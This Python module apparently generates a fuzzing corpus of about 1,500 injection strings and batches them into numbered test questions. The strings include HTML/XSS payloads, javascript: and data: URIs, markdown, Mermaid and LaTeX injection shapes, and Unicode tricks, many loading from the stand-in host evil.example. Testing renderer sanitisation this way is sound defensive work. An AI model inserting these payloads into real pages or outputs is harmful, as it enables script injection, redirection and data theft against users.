"""Some 1,500 strings that try to become more than text; what they would fetch lies at ``evil.example``."""

from __future__ import annotations

from collections.abc import Iterator
from itertools import product

EVIL = "https://evil.example/x"
LONGEST_BATCH = 1_800
"""Characters of the strings that are asked in one question."""

_TAGS = "a b body button details div form iframe img input marquee math object p select style svg table textarea video".split()
_HANDLERS = "onabort onanimationstart onblur onclick onerror onfocus oninput onload onmouseover onpointerenter onscroll ontoggle".split()
_SCRIPTS = (
    "<script>alert(1)</script>", "<ScRiPt>alert(1)</sCrIpT>", "<script >alert(1)</script >", "<script\t>alert(1)</script\n>",
    "<script/src=https://evil.example/x.js></script>", "<script src=//evil.example/x.js>", "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "</script><script>alert(1)</script>", "<svg><script>alert(1)</script></svg>", "<svg><script href=https://evil.example/x.js />",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>", "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>", "<!--><script>alert(1)</script>-->", "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>", "<script\x00>alert(1)</script>", "<\x00script>alert(1)</script>",
    "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e", "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e", "＜script＞alert(1)＜/script＞", "‹script›alert(1)‹/script›",
    "<script type=module>import('https://evil.example/x.js')</script>", "<link rel=stylesheet href=https://evil.example/x.css>",
    "<link rel=preload as=image href=https://evil.example/x.png>", "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<base href=https://evil.example/>", "<iframe srcdoc='<script>parent.alert(1)</script>'>", "<iframe src=https://evil.example/>",
    "<object data=https://evil.example/x.swf>", "<embed src=https://evil.example/x.swf>", "<form action=https://evil.example/><button>go</button></form>",
    "<input autofocus onfocus=alert(1)>", "<video poster=https://evil.example/x.png><source src=https://evil.example/x.mp4></video>",
    "<picture><source srcset=https://evil.example/x.png><img></picture>", "<img srcset='https://evil.example/x.png 1x'>",
    "<dialog open>alert(1)</dialog>", "<slot onslotchange=alert(1)>", "<gradio-app src=https://evil.example/></gradio-app>", "<a ping=https://evil.example/ href=/>x</a>",
)  # fmt: skip
_SCHEMES = (
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", " javascript:alert(1)", "\x01javascript:alert(1)",
    "javascript&colon;alert(1)", "&#106;avascript:alert(1)", "&#x6A;avascript:alert(1)", "javascript://%0aalert(1)", "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "data:image/svg+xml,<svg onload=alert(1)>",
    "//evil.example/x", "/\\evil.example/x", "\\\\evil.example\\x", "https:evil.example/x", EVIL, "https://u@evil.example/x", "file:///etc/passwd",
    "blob:https://evil.example/1", "ws://evil.example/x",
)  # fmt: skip
_CARRIERS = (
    '<a href="{0}">x</a>', "<img src='{0}'>", "<iframe src={0}>", "<svg><a xlink:href='{0}'><text>x</text></a></svg>", "<svg><image href='{0}'/></svg>",
    "<form action='{0}'>", "<button formaction='{0}'>x</button>", "<object data='{0}'>", "<style>@import '{0}';</style>", "<div style=\"background:url('{0}')\">x</div>",
    "<table background='{0}'>", "<audio src='{0}' autoplay>", "[x]({0})", "[x](<{0}>)", "![x]({0})", "![x](<{0}> 'title')", "<{0}>", "[x][1]\n\n[1]: {0}", "[![x]({0})]({0})", "{0}",
)  # fmt: skip
_PAYLOADS = (
    "<img src=https://evil.example/x.png onerror=alert(1)>", "<svg/onload=alert(1)>", "<b onmouseover=alert(1)>x</b>", "<iframe src=//evil.example>",
    "[x](javascript:alert(1))", "![x](https://evil.example/x.png)", "{{7*7}}", "${alert(1)}", "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;img src=x onerror=alert(1)&#62;",
)  # fmt: skip
_WRAPPERS = (
    "- {0}", "1. {0}", "> {0}", "# {0}", "| a | b |\n|---|---|\n| {0} | x |", "`{0}`", "**{0}**", "_{0}_", "~~{0}~~", "    {0}", "\t{0}", "[{0}](#x)", "[1] {0}", "{0} [1][2]",
    "\\{0}", "--- {0}", "\"'>{0}", "</p></div></article>{0}", "<!-- {0} -->", "]]>{0}", "⸨1⸩{0}⸨/⸩", '" title="{0}', "x\\\n{0}", "<details open><summary>{0}</summary></details>", "&nbsp;{0}&zwj;",
    "<p>{0}", "Hello {0} world", "{0}{0}{0}", "^{0}^", "==={0}===", "[^1]: {0}", "::: {0} :::", "[ ] {0}", "@{0}", "\u200b{0}",
)  # fmt: skip
_FENCED = (
    "```mermaid\ngraph TD; A-->B; click A call alert(1)\n```", '```mermaid\ngraph LR; A["{0}"]\n```', '```mermaid\n%%{{init: {{"securityLevel":"loose"}}}}%%\ngraph TD; A["{0}"]\n```',
    "```html\n{0}\n```", "```js\n{0}\n```", "~~~\n{0}\n~~~", "```latex\n\\href{{javascript:alert(1)}}{{{0}}}\n```", "``` {0}\nx\n```", "```\n{0}", "~~~mermaid {0}\nsequenceDiagram\nA->>B: {0}\n~~~",
)  # fmt: skip
_FORMULAS = (
    "$$\\href{{javascript:alert(1)}}{{{0}}}$$", "$\\url{{https://evil.example/}}{0}$", "\\({0}\\)", "\\[{0}\\]", "$$\\includegraphics{{https://evil.example/x.png}}{0}$$", "\\begin{{equation}}{0}\\end{{equation}}",
    "$$\\htmlData{{onclick=alert(1)}}{{{0}}}$$", "$$\\unicode{{{0}}}$$", "$`{0}`$", "\\def\\x{{\\x\\x}}\\x{0}",
)  # fmt: skip
_LETTERS = ("\u202e{0}\u202c", "\u2066{0}\u2069", "\u200f{0}", "\ufeff{0}", "\u2028{0}\u2029", "\u00ad{0}", "e\u0301\u0301\u0301{0}", "\U000e0020\U000e0041{0}\U000e007f", "\ufff9{0}\ufffb", "𝒜{0}")  # fmt: skip
_LONG = tuple(unit * (5_000 // len(unit)) for unit in ("a", "<", "[", "](", "!", "`", "*", "_", "|", "> ", "- ", "<b>", "&#60;", "[1]", "⸨", "\\", "{{", "$", "<!--", "\U0001f468\u200d"))  # fmt: skip


def families() -> Iterator[list[str]]:
    """Yield the strings by family, each string once; those that open a fence stand together."""
    yield list(_SCRIPTS)
    yield [f"<{tag} src=x {handler}=alert(1)>" for tag, handler in product(_TAGS, _HANDLERS)]
    yield [f"'\"><{tag}/{handler}='alert(1)'//" for tag, handler in product(_TAGS, _HANDLERS[:6])]
    yield [carrier.replace("{0}", scheme) for carrier, scheme in product(_CARRIERS, _SCHEMES)]
    for shapes in (_WRAPPERS, _FENCED, _FORMULAS, _LETTERS):
        yield [shape.format(payload) for shape, payload in product(shapes, _PAYLOADS)]
    yield list(_LONG)


def batches() -> list[tuple[str, ...]]:
    """Return the strings in groups that fit into a question; one that is longer stands alone."""
    made: list[list[str]] = []
    for family in families():
        made.append([])
        for each in family:
            if made[-1] and sum(map(len, made[-1])) + len(made[-1]) + len(each) > LONGEST_BATCH:
                made.append([])
            made[-1].append(each)
    return [tuple(dict.fromkeys(each)) for each in made]


def question(number: int, attacks: tuple[str, ...]) -> str:
    """Return the question that carries a group and names its number; one attack stands in one line."""
    return f"{number} " + "\n".join(" ".join(each.split("\n")) for each in attacks)[:LONGEST_BATCH]
